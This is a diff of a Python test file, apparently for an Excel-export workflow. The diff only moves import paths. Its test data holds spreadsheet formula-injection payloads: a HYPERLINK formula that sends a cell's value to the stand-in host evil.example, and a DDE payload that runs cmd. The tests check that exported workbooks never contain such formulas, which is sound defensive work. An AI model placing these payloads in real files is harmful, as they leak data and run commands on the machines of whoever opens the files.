@@ -10,12 +10,12 @@ from pathlib import Path
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from states.machine import Event
+from states.values import Event
 from tests.helpers import NOTICE, OPINION, PAPER_ITEMS, bj, engineer
 from tests.integration.test_rules import _to_publicity
 from tests.integration.world import World
 from workflow.documents.produce import confirmed_list
-from workflow.export import export_cases
+from workflow.reads.export import export_cases
 
 NAME = '=HYPERLINK("http://evil.example/?"&D2,"点击")'
 SPECIALTY = "+1+cmd|' /C calc'!A0"
@@ -51,7 +51,7 @@ def test_no_workbook_chuding_writes_holds_a_formula_from_data(engine: sa.Engine,
 def test_the_template_s_texts_from_the_notice_are_never_formulas(tmp_path: Path) -> None:
     from dataclasses import replace
 
-    from workflow.workbook import write_template
+    from workflow.inputs.workbook import write_template
 
     shown = replace(NOTICE, series_choices=("=1+1", "@SUM(A1)", *(f"系列{n}" for n in range(60))))
     path = tmp_path / "template.xlsx"
